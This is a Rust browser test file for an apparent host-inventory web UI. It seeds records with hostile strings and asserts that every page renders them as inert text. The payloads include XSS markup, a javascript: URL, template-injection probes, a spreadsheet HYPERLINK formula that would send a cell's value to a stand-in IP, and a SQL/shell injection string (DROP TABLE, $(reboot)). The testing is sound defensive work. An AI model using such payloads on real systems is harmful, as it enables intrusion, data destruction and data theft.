//! Texts of hostile machines and users, in every field and on every page: they are text and nothing else, and the layout stays.

use muster_tests::browser::{Browser, Tab, Theme};
use muster_tests::condition::{LEAST_LIMIT, await_condition};
use muster_tests::database::Database;
use muster_tests::hosts::plain::{host_id, infra_env, inventory, known_host, register, reply};
use muster_tests::http::HttpClient;
use muster_tests::rest::PULL_SECRET;
use serde_json::{Value, json};

use super::walk::base;

/// Stands in each hostile text.
const MARK: &str = "MARK";

/// Texts that do harm where they are taken for more than text.
const TEXTS: [&str; 8] = [
    "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>MARK",
    "javascript:document.title='owned'//MARK",
    "\" autofocus onfocus=\"document.title='owned'\" MARK=\"",
    "</bdi></code></option></textarea></template></title><h1>MARK",
    "{{7*7}}${7*7}<%= 7*7 %>MARK&lt;b&gt;",
    "=HYPERLINK(\"http://203.0.113.1/\"&A1)MARK",
    "'; DROP TABLE hosts; -- $(reboot) `reboot` MARK",
    "\u{5d0}\u{5d1}\u{5d2} MARK \u{5d3}\u{5d4} 1:2",
];

/// The effects that hostile texts had on a page; empty: none.
const EFFECTS: &str = "(() => {
    const found = [];
    if (document.title === 'owned') found.push('a script ran');
    for (const one of document.querySelectorAll('body *')) {
        if (one.matches('img:not(.qr), iframe, object, embed, main script, main style, [style], [srcdoc], h1 h1')) found.push(one.outerHTML.slice(0, 200));
        for (const { name, value } of one.attributes) {
            if (name.startsWith('on') || name.includes('mark')) found.push(`${one.tagName} ${name}`);
            const leads = ['href', 'src', 'action', 'formaction'].includes(name);
            if (leads && new URL(value, location).origin !== location.origin) found.push(`${name} ${value}`);
        }
    }
    const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let text = texts.nextNode(); text; text = texts.nextNode()) {
        const isApart = text.parentElement.closest('bdi, code, pre, option, textarea, svg text, li[role=option]');
        if (text.data.includes('MARK') && !isApart) found.push(`not apart: ${text.data} in ${text.parentElement.outerHTML.slice(0, 200)}`);
    }
    return found.join('; '); })()";

/// Writes a text into every text of a document, but for the kinds of cards, by which the service knows real ones.
fn fill(value: &mut Value, text: &str) {
    match value {
        Value::String(old) => text.clone_into(old),
        Value::Array(list) => list.iter_mut().for_each(|item| fill(item, text)),
        Value::Object(map) => {
            let others = map.iter_mut().filter(|(key, _)| *key != "type");
            others.for_each(|(_, value)| fill(value, text));
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// A pool, a BMC and a host with this text in every field that takes it. Returns the id of the pool.
#[track_caller]
fn hostile(client: &HttpClient, number: u64, text: &str) -> String {
    let name: String = text.chars().take(253).collect();
    let body = json!({"name": name, "pull_secret": PULL_SECRET});
    let made = client.post("/infra-envs", &body).expect(201).json();
    let id = made["id"].as_str().unwrap().to_owned();
    let bmc = json!({
        "name": name, "address": format!("bmc-{number}.example.test"), "user_name": "u", "password": "p", "discover": false,
    });
    let bmcs = format!("/api/muster/v1/infra-envs/{id}/bmcs");
    client
        .request("POST", &bmcs, Some(bmc.to_string().as_bytes()))
        .expect(201);
    let mut reported = inventory(number);
    reported["gpus"] = json!([{"address": "", "device_id": "", "name": "", "vendor": "", "vendor_id": ""}]);
    reported["interfaces"][0]["switch_port"] = json!({"switch": "", "port": ""});
    fill(&mut reported, text);
    let host = register(client, &format!("/infra-envs/{id}"), number);
    client
        .post(&format!("{host}/instructions"), &reply("inventory", &reported))
        .expect(204);
    let event = json!({
        "name": text, "severity": "critical", "message": text, "infra_env_id": id, "host_id": host_id(number),
        "event_time": "2026-11-22T15:00:00Z",
    });
    client.post("/events", &event).expect(201);
    id
}

/// Checks the page that the tab shows, on a telephone and on a screen.
#[track_caller]
fn assert_harmless(tab: &Tab<'_>, name: &str) {
    for width in [360, 1440] {
        tab.resize(width, Theme::Light);
        let effects = tab.value(EFFECTS);
        assert_eq!(effects, "", "{name} at {width}");
        let wide = tab.wider_than_window();
        assert!(wide.is_empty(), "{name} at {width}: {wide}");
    }
}

/// Waits until an expression is true.
#[track_caller]
fn await_true(tab: &Tab<'_>, what: &str, expression: &str) {
    await_condition(what, LEAST_LIMIT, || match tab.value(expression) == true {
        true => Ok(()),
        false => Err(tab.text()),
    });
}

/// Complaints of scripts, and things that the policy of contents kept from a page.
fn blocked(browser: &Browser) -> Vec<String> {
    let complaints = browser.complaints().into_iter();
    complaints
        .filter(|complaint| !complaint.contains("the server responded with a status of"))
        .collect()
}

/// The query as an address has it.
fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[test]
fn no_text_of_others_is_more_than_text_on_any_page() {
    let service = Database::Sqlite.serve();
    let client = service.http();
    let ids: Vec<String> = (1..)
        .zip(TEXTS)
        .map(|(number, text)| hostile(&client, number, text))
        .collect();
    let browser = Browser::start();
    let tab = browser.tab();
    let look = |path: &str| {
        tab.open(&format!("{}{path}", base(&service)));
        assert_harmless(&tab, path);
    };
    let columns =
        "state,pool,cluster,disks,gpus,model,serial,ip,port,findings,checks,labels,vendor,bmc,mac,agent";
    look("/ui/");
    look("/ui/hosts");
    look(&format!("/ui/hosts?columns={columns}"));
    assert!(tab.text().contains(TEXTS[0]), "{}", tab.text());
    look("/ui/hosts?all=1");
    look("/ui/hosts?group=model");
    look("/ui/hosts?group=pool");
    look("/ui/hosts?group=switch");
    look("/ui/pools");
    look("/ui/bmcs");
    look("/ui/service");
    look("/ui/events");
    look("/ui/links");
    look("/ui/search?q=MARK");
    assert!(tab.text().contains(TEXTS[0]), "{}", tab.text());
    for ((number, text), id) in (1..).zip(TEXTS).zip(&ids) {
        look(&format!("/ui/pools/{id}"));
        assert_eq!(tab.value("document.querySelector('h1').textContent"), text);
        look(&format!("/ui/hosts/{id}/{}", host_id(number)));
        assert_eq!(tab.value("document.querySelector('h1').textContent"), text);
        look(&format!("/ui/matrix/{id}"));
        look(&format!("/ui/timeline/{id}/{}", host_id(number)));
        let query = encoded(text);
        look(&format!("/ui/hosts?q={query}"));
        look(&format!("/ui/events?text={query}"));
        look(&format!("/ui/events?severity={query}&host={query}&pool={query}"));
        look(&format!("/ui/search?q={query}"));
        look(&format!("/ui/jobs/plan?which=all&q={query}&action={query}"));
        look(&format!(
            "/ui/jobs/plan?which=all&q={query}&action=pattern&pattern={query}"
        ));
        look(&format!("/ui/hosts/{query}"));
        look(&format!("/ui/bmcs?phase={query}"));
        look(&format!(
            "/ui/logs/{id}/{}?file={query}&text={query}",
            host_id(number)
        ));
        look(&format!("/ui/sign-in?next={query}"));
        look(&format!("/ui/sign-in?link={query}"));
    }
    let blocked = blocked(&browser);
    assert!(blocked.is_empty(), "{blocked:#?}");
}

#[test]
fn texts_of_megabytes_leave_pages_small_and_whole() {
    let service = Database::Sqlite.serve();
    let client = service.http();
    let long = format!("{MARK}{}", "x".repeat(64 << 10));
    let id = hostile(&client, 1, &long);
    let browser = Browser::start();
    let tab = browser.tab();
    for path in [
        "/ui/".to_owned(),
        "/ui/hosts".to_owned(),
        "/ui/pools".to_owned(),
        "/ui/bmcs".to_owned(),
        "/ui/service".to_owned(),
        "/ui/events".to_owned(),
        "/ui/search?q=MARK".to_owned(),
        format!("/ui/pools/{id}"),
        format!("/ui/hosts/{id}/{}", host_id(1)),
    ] {
        tab.open(&format!("{}{path}", base(&service)));
        assert!(tab.text().contains(MARK), "{path}: {}", tab.text());
        let size = tab.value("document.documentElement.outerHTML.length").as_u64();
        assert!(size.unwrap() < 200_000, "{path}: {size:?}");
        assert_harmless(&tab, &path);
    }
    let blocked = blocked(&browser);
    assert!(blocked.is_empty(), "{blocked:#?}");
}

#[test]
fn boxes_that_scripts_fill_show_text() {
    let service = Database::Sqlite.serve();
    let client = service.http();
    for (number, text) in (1..).zip(TEXTS) {
        hostile(&client, number, text);
    }
    let all = format!("{} hosts", TEXTS.len());
    let browser = Browser::start();
    let tab = browser.tab();
    let open = || {
        tab.open(&format!("{}/ui/hosts", base(&service)));
        tab.await_text(&all);
        tab.await_text("Keys");
    };
    open();
    tab.press("Control+k");
    tab.await_text("Go to a page");
    tab.fill("#palette-text", MARK);
    let is_found = "document.querySelector('#palette-hits').textContent.includes('<img')";
    await_true(&tab, "the text in the box", is_found);
    assert_harmless(&tab, "palette");
    assert_eq!(
        tab.value("document.querySelectorAll('#palette-hits li :not(span, bdi)').length"),
        0
    );

    open();
    tab.fill("#q", "model:");
    let option =
        "[...document.querySelectorAll('#completions li')].find((one) => one.textContent.includes('<img'))";
    assert_eq!(tab.value(&format!("{option}?.childElementCount")), 0);
    assert_harmless(&tab, "completions");
    // Put into the filter it is the value that it was, quotation marks and all.
    tab.fill("#q", "model:");
    tab.value(&format!("{option}.click()"));
    tab.await_text(&format!("1 host of {}", TEXTS.len()));

    // A view under such a name.
    tab.click("Keep this view");
    tab.fill("input[name=view]", "<img src=x onerror=alert(1)> MARK");
    tab.click("Keep");
    tab.await_text("<img src=x onerror=alert(1)> MARK");
    assert_harmless(&tab, "views");
    let blocked = blocked(&browser);
    assert!(blocked.is_empty(), "{blocked:#?}");
}

/// Names of clusters, labels and names of hosts are of few letters: what has others is refused, and the refusal repeats it as text.
#[test]
fn what_is_refused_is_repeated_as_text() {
    let service = Database::Sqlite.serve();
    let client = service.http();
    let pool = infra_env(&client);
    known_host(&client, &pool, 1);
    let text = "<img/src=x/onerror=document.title='owned'>MARK";
    let cluster = json!({"name": text, "api_vip_dnsname": "api.edge.example.test", "openshift_cluster_id": host_id(77)});
    client.post("/clusters/import", &cluster).expect(400);
    let browser = Browser::start();
    let tab = browser.tab();
    let pool_id = pool.trim_start_matches("/infra-envs/");
    let page = format!("{}/ui/hosts/{pool_id}/{}", base(&service), host_id(1));
    for (action, field) in [("name", "input"), ("labels", "textarea")] {
        tab.open(&page);
        tab.await_text("Checks: hardware");
        let form = format!("form[action$=\"/{action}\"]");
        tab.fill(&format!("{form} {field}[name=value]"), text);
        tab.value(&format!("document.querySelector('{form}').requestSubmit()"));
        let refusal =
            format!("document.querySelector('{form} [role=alert]')?.textContent.includes('<img/src')");
        await_true(&tab, "a refusal that repeats the text", &refusal);
        assert_harmless(&tab, action);
    }
    let blocked = blocked(&browser);
    assert!(blocked.is_empty(), "{blocked:#?}");
}
